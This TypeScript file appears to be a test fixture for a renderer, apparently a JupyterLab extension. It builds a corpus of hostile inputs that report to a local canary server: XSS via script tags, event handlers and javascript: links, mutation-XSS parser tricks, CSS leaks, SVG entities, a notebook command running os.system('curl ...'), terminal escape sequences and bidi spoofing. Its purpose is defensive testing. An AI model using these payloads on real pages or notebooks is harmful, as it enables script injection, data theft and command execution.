/**
 * Texts that try to act instead of being shown. Each one that succeeds asks the canary server for
 * something, sets `window.owned`, or opens a dialog. `canary` is an address without a slash at its
 * end, such as `http://127.0.0.1:8000/canary`.
 */

export interface Hostile {
  /** What it tries. */
  readonly name: string;
  readonly text: string;
}

const ESC = '\u001b';
const BEL = '\u0007';

/** The whole corpus. */
export function hostile(canary: string): Hostile[] {
  return [
    ...scripts(canary),
    ...handlers(canary),
    ...addresses(canary),
    ...frames(canary),
    ...loads(canary),
    ...styles(canary),
    ...navigation(canary),
    ...pictures(canary),
    ...parsers(canary),
    ...markdown(canary),
    ...jupyter(canary),
    ...texts(canary)
  ];
}

const payload = (name: string, text: string): Hostile => ({ name, text });

/** What a payload does when it runs. */
function act(canary: string, name: string): string {
  return `window.owned=(window.owned||0)+1;top.owned=1;fetch('${canary}/${name}');alert(1)`;
}

function scripts(canary: string): Hostile[] {
  const run = (name: string): string => act(canary, name);
  return [
    payload('script', `<script>${run('script')}</script>`),
    payload('script in mixed case', `<ScRiPt>${run('mixed')}</sCrIpT>`),
    payload('script with a slash', `<script/x>${run('slash')}</script/y>`),
    payload('script from elsewhere', `<script src="${canary}/src.js"></script>`),
    payload('module script', `<script type="module">import '${canary}/module.js'</script>`),
    payload('script that is not closed', `<script>${run('open')}//`),
    payload(
      'script after a closed title',
      `</title></style></textarea><script>${run('closed')}</script>`
    ),
    payload('script in an attribute', `"><script>${run('attribute')}</script>`),
    payload('script after the page', `</body></html><script>${run('after')}</script>`),
    payload('script in a comment', `<!--><script>${run('comment')}</script>-->`),
    payload('script with null', `<scr\u0000ipt>${run('null')}</scr\u0000ipt>`),
    payload('import map', `<script type="importmap">{"imports":{"x":"${canary}/map.js"}}</script>`)
  ];
}

function handlers(canary: string): Hostile[] {
  const run = (name: string): string => act(canary, name).replace(/"/g, '&quot;');
  return [
    payload('img onerror', `<img src=x onerror="${run('onerror')}">`),
    payload('img onerror without quotes', `<img src=x onerror=fetch('${canary}/unquoted')>`),
    payload('img onerror with slashes', `<img/src=x/onerror="${run('slashes')}">`),
    payload('svg onload', `<svg onload="${run('svg-onload')}"></svg>`),
    payload(
      'svg animate onbegin',
      `<svg><animate onbegin="${run('onbegin')}" attributeName=x dur=1s>`
    ),
    payload('body onload', `<body onload="${run('body-onload')}">`),
    payload('details ontoggle', `<details open ontoggle="${run('ontoggle')}">x</details>`),
    payload('input onfocus', `<input autofocus onfocus="${run('onfocus')}">`),
    payload('video onerror', `<video><source onerror="${run('video')}"></video>`),
    payload('marquee onstart', `<marquee onstart="${run('marquee')}">x</marquee>`),
    payload('style onload', `<style onload="${run('style-onload')}"></style>`),
    payload(
      'transition handler',
      `<p style="transition:all 1ms" ontransitionend="${run('transition')}">x</p>`
    ),
    payload('popover toggle', `<div popover id=p onbeforetoggle="${run('popover')}">x</div>`),
    payload('mouse handler', `<b onpointerover="${run('pointer')}" style="font-size:900px">x</b>`)
  ];
}

function addresses(canary: string): Hostile[] {
  const run = act(canary, 'address');
  return [
    payload('javascript link', `<a href="javascript:${run}">click</a>`),
    payload('javascript link with a tab', `<a href="java\tscript:${run}">click</a>`),
    payload('javascript link with entities', `<a href="&#106;avascript&colon;${run}">click</a>`),
    payload('vbscript link', `<a href="vbscript:msgbox(1)">click</a>`),
    payload('data page link', `<a href="data:text/html,<script>${run}</script>">click</a>`),
    payload('ping of a link', `<a href="#x" ping="${canary}/ping">click</a>`),
    payload('javascript frame', `<iframe src="javascript:${run}"></iframe>`),
    payload('javascript form', `<form action="javascript:${run}"><button>x</button></form>`),
    payload(
      'javascript in svg',
      `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`
    )
  ];
}

function frames(canary: string): Hostile[] {
  const run = act(canary, 'frame');
  return [
    payload('frame srcdoc', `<iframe srcdoc="<script>${run}</script>"></iframe>`),
    payload('frame from elsewhere', `<iframe src="${canary}/frame"></iframe>`),
    payload('frameset', `<frameset><frame src="${canary}/frameset"></frameset>`),
    payload('object', `<object data="${canary}/object"></object>`),
    payload('embed', `<embed src="${canary}/embed">`),
    payload('data object', `<object data="data:text/html,<script>${run}</script>"></object>`),
    payload(
      'portal',
      `<portal src="${canary}/portal"></portal><fencedframe src="${canary}/fenced">`
    )
  ];
}

function loads(canary: string): Hostile[] {
  return [
    payload('remote picture', `<img src="${canary}/img.png">`),
    payload(
      'remote picture set',
      `<img srcset="${canary}/set.png 1x"><picture><source srcset="${canary}/p.png"></picture>`
    ),
    payload(
      'protocol-relative picture',
      `<img src="${canary.replace(/^https?:/, '')}/relative.png">`
    ),
    payload(
      'video poster',
      `<video src="${canary}/video" poster="${canary}/poster" autoplay></video>`
    ),
    payload('audio', `<audio src="${canary}/audio" autoplay></audio><track src="${canary}/track">`),
    payload('image input', `<input type="image" src="${canary}/input.png">`),
    payload('stylesheet', `<link rel="stylesheet" href="${canary}/sheet.css">`),
    payload(
      'prefetch',
      `<link rel="prefetch" href="${canary}/prefetch"><link rel="preload" as="script" href="${canary}/preload">`
    ),
    payload(
      'preconnect',
      `<link rel="preconnect" href="${canary}"><link rel="dns-prefetch" href="${canary}">`
    ),
    payload(
      'manifest and icon',
      `<link rel="manifest" href="${canary}/m.json"><link rel="icon" href="${canary}/i.ico">`
    ),
    payload(
      'table background',
      `<table background="${canary}/table.png"><tr><td>x</td></tr></table>`
    ),
    payload(
      'svg use and image',
      `<svg><use href="${canary}/use.svg#x"/><image href="${canary}/image.png"/></svg>`
    )
  ];
}

function styles(canary: string): Hostile[] {
  return [
    payload('css background', `<p style="background:url(${canary}/bg.png)">x</p>`),
    payload('css import', `<style>@import url("${canary}/import.css");</style>`),
    payload(
      'css font',
      `<style>@font-face{font-family:f;src:url(${canary}/font)}*{font-family:f}</style>x`
    ),
    payload(
      'css that covers the page',
      `<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>`
    ),
    payload(
      'css that leaks attributes',
      `<style>[nonce^="1"]{background:url(${canary}/nonce)}input{content:url(${canary}/content)}</style>`
    ),
    payload('css escape out of a value', `red;}*{background:url(${canary}/escape)}`)
  ];
}

function navigation(canary: string): Hostile[] {
  return [
    payload('meta refresh', `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`),
    payload(
      'base address',
      `<base href="${canary}/"><img src="base.png"><a href="x" target=_top>x</a>`
    ),
    payload(
      'form that sends itself',
      `<form id=f action="${canary}/form"><input name=x></form><script>f.submit()</script>`
    ),
    payload(
      'button with a form of its own',
      `<form><button formaction="${canary}/formaction" autofocus>x</button></form>`
    ),
    payload(
      'window.open and top',
      `<script>open('${canary}/open');top.location='${canary}/top'</script>`
    ),
    payload('own location', `<script>location='${canary}/location'</script>`),
    payload(
      'speculation rules',
      `<script type="speculationrules">{"prerender":[{"urls":["${canary}/rules"]}]}</script>`
    )
  ];
}

function pictures(canary: string): Hostile[] {
  const run = act(canary, 'svg');
  const svg = (inside: string): string =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">${inside}</svg>`;
  return [
    payload('svg script', svg(`<script>${run}</script>`)),
    payload(
      'svg foreign object',
      svg(
        `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${canary}/foreign"/></foreignObject>`
      )
    ),
    payload(
      'svg remote image',
      svg(`<image xlink:href="${canary}/remote.png" width="9" height="9"/>`)
    ),
    payload('svg style import', svg(`<style>@import "${canary}/svg.css";</style>`)),
    payload(
      'svg set of an address',
      svg(`<a><set attributeName="href" to="javascript:${run}"/></a>`)
    ),
    payload(
      'svg entity',
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "${canary}/entity">]>${svg('<text>&x;</text>')}`
    ),
    payload(
      'svg stylesheet instruction',
      `<?xml-stylesheet href="${canary}/sheet.xsl" type="text/xsl"?>${svg('')}`
    ),
    payload(
      'svg that breaks out of a data address',
      `"/><img src=x onerror=fetch('${canary}/break')>`
    )
  ];
}

function parsers(canary: string): Hostile[] {
  const run = act(canary, 'parser').replace(/"/g, '&quot;');
  return [
    payload('template', `<template><img src=x onerror="${run}"></template>`),
    payload(
      'shadow root',
      `<div><template shadowrootmode="open"><img src=x onerror="${run}"></template></div>`
    ),
    payload('noscript', `<noscript><p title="</noscript><img src=x onerror='${run}'>"></noscript>`),
    payload(
      'math and style',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`
    ),
    payload('svg and style', `<svg></p><style><a id="</style><img src=1 onerror='${run}'>">`),
    payload(
      'textarea',
      `<textarea><img title="</textarea><img src=x onerror='${run}'>"></textarea>`
    ),
    payload('cdata', `<svg><![CDATA[><img src=x onerror="${run}">]]></svg>`),
    payload(
      'form in form',
      `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`
    ),
    payload(
      'names that hide the page',
      `<img name="body"><form id="document"><input name="attributes"></form><a id="iai"></a>`
    ),
    payload('deep nesting', `${'<div>'.repeat(2000)}<img src=x onerror="${run}">`)
  ];
}

function markdown(canary: string): Hostile[] {
  const run = act(canary, 'markdown');
  return [
    payload('markdown picture', `![x](${canary}/markdown.png)`),
    payload('markdown picture by reference', `![x][r]\n\n[r]: ${canary}/reference.png`),
    payload('markdown script link', `[click](javascript:${encodeURIComponent(run)})`),
    payload(
      'markdown script link in brackets',
      `[click](<java\nscript:alert(1)>) <javascript:alert(1)>`
    ),
    payload('markdown html', `# x\n\n<img src=x onerror="${run}">\n\n<script>${run}</script>`),
    payload('markdown title that breaks out', `[x](https://example.org "\\"onmouseover=${run}")`),
    payload('markdown code info', '```html"><img src=x onerror=alert(1)>\nx\n```'),
    payload('markdown deep quote', `${'>'.repeat(3000)} x`),
    payload('markdown many brackets', '['.repeat(5000)),
    payload(
      'latex link and file',
      `$$\\href{javascript:${run}}{x}\\includegraphics{${canary}/tex.png}\\input{/etc/passwd}$$`
    )
  ];
}

function jupyter(canary: string): Hostile[] {
  const code = `{"code":"import os;os.system('curl ${canary}/kernel')"}`;
  return [
    payload(
      'command of JupyterLab',
      `<button data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args='${code}'>x</button>`
    ),
    payload(
      'command link',
      `<a href="#" data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">x</a>`
    ),
    payload(
      'classes of the page',
      `<div class="iai-toolbar jp-Dialog lm-mod-hidden iai-node" id="main">x</div>`
    ),
    payload(
      'widget view',
      `<script type="application/vnd.jupyter.widget-view+json">{"model_id":"0"}</script>`
    )
  ];
}

function texts(canary: string): Hostile[] {
  return [
    payload('text that turns round', 'invoice\u202Efdp.exe \u2066hidden\u2069 a\u200Bb\uFEFFc'),
    payload('half a surrogate', 'a\uD800b\uDC00c'),
    payload('control characters', 'a\u0000b\u0008c\u007Fd\u009Be'),
    payload('terminal link', `${ESC}]8;;${canary}/osc${BEL}click${ESC}]8;;${BEL}`),
    payload(
      'terminal title and clipboard',
      `${ESC}]0;owned${BEL}${ESC}]52;c;b3duZWQ=${BEL}${ESC}P+q${ESC}\\`
    ),
    payload(
      'terminal that is cleared',
      `secret${ESC}[2J${ESC}[H${ESC}[?1049h${ESC}[31mred${ESC}[0m\rover`
    ),
    payload('terminal sequence that is not closed', `${ESC}[38;5;${'9'.repeat(5000)}`),
    payload(
      'html in terminal colours',
      `${ESC}[31m<img src=x onerror=fetch('${canary}/ansi')>${ESC}[0m`
    ),
    payload('a million signs', 'x'.repeat(1_000_000)),
    payload('a hundred thousand lines', 'line\n'.repeat(100_000)),
    payload('many combining marks', `a${'\u0301'.repeat(5000)}`),
    payload(
      'two languages',
      `Đơn hàng của bạn <img src=x onerror=fetch('${canary}/vi')> is ready: [xem](javascript:alert(1))`
    ),
    payload('template braces', '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %>'),
    payload('not a number', 'NaN, Infinity, -Infinity, 1e999'),
    payload('prototype names', '__proto__ constructor toString hasOwnProperty'),
    payload(
      'json that is not whole',
      `{"a": [1, {"b": "<img src=x onerror=fetch('${canary}/json')>"`
    )
  ];
}
